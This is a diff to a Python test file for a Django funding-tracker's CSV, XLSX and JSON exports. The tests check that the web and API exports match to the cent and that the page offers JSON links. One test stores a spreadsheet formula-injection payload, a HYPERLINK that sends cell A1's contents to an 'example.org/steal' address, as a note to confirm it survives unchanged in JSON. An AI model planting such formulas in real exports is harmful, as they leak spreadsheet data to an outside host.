@@ -1,13 +1,16 @@
 """Exports: the shared CSV/XLSX writer (restrack/core/exports.py) and the public funding exports,
-read back with the csv module and openpyxl and compared with the pages' figures to the cent."""
+read back with the csv module, openpyxl and json and compared with the pages' figures and the
+API's export to the cent."""
 
 import csv
 import io
+import json
 from datetime import date
 from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
+from rest_framework.test import APIClient
 
 from restrack.accounts.actions import find_instrument
 from restrack.core.exports import Sheet, write_csv, write_xlsx
@@ -187,3 +190,59 @@ def test_ranking_export_follows_the_page(client, sample_funding):
 def test_exports_read_a_fixed_number_of_queries(client, sample_funding, django_assert_max_num_queries):
     with django_assert_max_num_queries(4):  # periods with figures, records with their periods, instruments
         client.get("/en/funding/export.xlsx")
+
+
+# JSON, and the same table as the API's --------------------------------------------------------
+
+
+def test_json_of_every_published_period_holds_the_csvs_rows(client, sample_funding):
+    response = client.get("/en/funding/export.json")
+    assert response["Content-Type"] == "application/json"
+    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-all-periods.json"'
+    rows = json.loads(response.content)
+    assert list(rows[0]) == HEADER
+    as_csv = read_csv(client.get("/en/funding/export.csv").content)
+    assert [{key: "" if value is None else str(value) for key, value in row.items()} for row in rows] == as_csv
+    assert [{key: row[key] or "" for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows] == expected_rows()
+
+
+def test_the_public_download_and_the_apis_export_are_the_same_table(client, sample_funding):
+    """Same columns, same rows (the API lists the latest period first), same amounts to the cent."""
+    web = json.loads(client.get("/en/funding/export.json").content)
+    api = json.loads(APIClient().get("/api/v1/funding/records/export.json?lang=en").content)
+    assert sorted(web, key=lambda row: (row["instrument"], row["period"])) == sorted(
+        api, key=lambda row: (row["instrument"], row["period"]))
+    listed = APIClient().get("/api/v1/funding/records/?period=2024-H2&limit=1000").json()["results"]
+    web_2024 = {row["instrument"]: row for row in web if row["period"] == "2024-H2"}
+    assert {r["instrument"]: (r["requirements_usd"], r["mobilized_usd"], r["shortfall_usd"], r["surplus_usd"])
+            for r in listed} == {
+        name: (row["requirements_usd"], row["mobilized_usd"], row["gap_usd"], row["surplus_usd"])
+        for name, row in web_2024.items()}
+
+
+def test_a_formula_in_a_note_is_unchanged_in_json(client, sample_funding):
+    note = '=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
+    record_funding(find_instrument("resolution 2/6"), ReportingPeriod.objects.get(label="2024-H2"), note=note,
+                   acting_user=sample_funding, reason="A test of formula injection")
+    rows = json.loads(client.get("/en/funding/export.json?period=2024-H2").content)
+    assert next(row for row in rows if row["instrument"] == "resolution 2/6")["note"] == note
+
+
+def test_ranking_as_json(client, sample_funding):
+    response = client.get("/zh-hans/funding/ranking.json?period=2024-H2")
+    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-ranking-2024-H2.json"'
+    rows = json.loads(response.content)
+    csv_rows = read_csv(client.get("/zh-hans/funding/ranking.csv?period=2024-H2").content)
+    assert [row["instrument"] for row in rows] == [row["instrument"] for row in csv_rows]
+    assert rows[0]["rank_by_gap"] == 1 and rows[0]["gap_usd"] == "1684500.00" and rows[0]["gap_percent"] == 53
+    assert [row["title"] for row in rows] == [row["title"] for row in csv_rows]
+    assert any("\u4e00" <= character <= "\u9fff" for row in rows for character in row["title"])  # titles in Chinese
+
+
+def test_the_funding_page_offers_json_next_to_csv_and_xlsx(client, sample_funding):
+    html = client.get("/en/funding/").content.decode()
+    for extension in ("csv", "xlsx", "json"):
+        assert f'href="/en/funding/export.{extension}?period=2024-H2"' in html
+        assert f'href="/en/funding/export.{extension}"' in html
+        assert f'href="/en/funding/ranking.{extension}?period=2024-H2"' in html
+    assert "(JSON)" in html
